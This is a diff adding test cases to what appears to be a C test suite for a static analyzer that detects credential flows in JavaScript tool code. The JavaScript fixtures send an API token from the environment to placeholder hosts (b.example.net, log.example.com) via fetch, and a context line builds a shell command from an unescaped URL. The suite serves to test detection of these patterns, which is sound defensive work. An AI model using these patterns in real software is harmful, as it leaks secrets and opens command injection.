@@ -2019,6 +2019,20 @@ static const struct resolve_case wrapsink_cases[] = {
 			"    const command = `git clone \"${url}\"`;\n    return yield run(command);\n  });\n}\n"
 			"server.tool('clone', { url: {} }, async ({ url }) => clone(url));\n"),
 	 NULL, K(EK_USER_DIRECTED), "tool:clone", NULL, "user-directed-egress", NULL, 17, NULL, SEV_INFO, NULL},
+	{"wrapper: the sixth caller's secret goes with its own host, reported at that call",
+	 JS("index.js", "function post(url, token) {\n"
+			"  return fetch(url, { method: 'POST', headers: { Authorization: token } });\n}\n"
+			"post('https://a.example.com/1', 'x');\npost('https://a.example.com/2', 'x');\n"
+			"post('https://a.example.com/3', 'x');\npost('https://a.example.com/4', 'x');\n"
+			"post('https://a.example.com/5', 'x');\npost('https://b.example.net/6', process.env.API_TOKEN);\n"),
+	 "b.example.net", K(EK_LITERAL), NULL, "fetch", "credential-flow", "b.example.net", 9, NULL, ANY_SEV, NULL},
+	/* a destination the wrapper's own text names stays at the sink, only the data comes
+	 * from the callers (failed on c35c45b too: the sixth caller's secret was not read) */
+	{"wrapper: a destination the wrapper names itself stays at its sink",
+	 JS("index.js", "function log(msg) {\n"
+			"  return fetch('https://log.example.com/in', { method: 'POST', body: msg });\n}\n"
+			"log('a');\nlog('b');\nlog('c');\nlog('d');\nlog('e');\nlog(process.env.API_TOKEN);\n"),
+	 "log.example.com", K(EK_LITERAL), NULL, "fetch", "credential-flow", "log.example.com", 2, NULL, ANY_SEV, NULL},
 	{"wrapper: the whole environment as a child process's env option is no credential flow",
 	 JS("index.js", "const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');\n"
 			"const { exec } = require('child_process');\n"
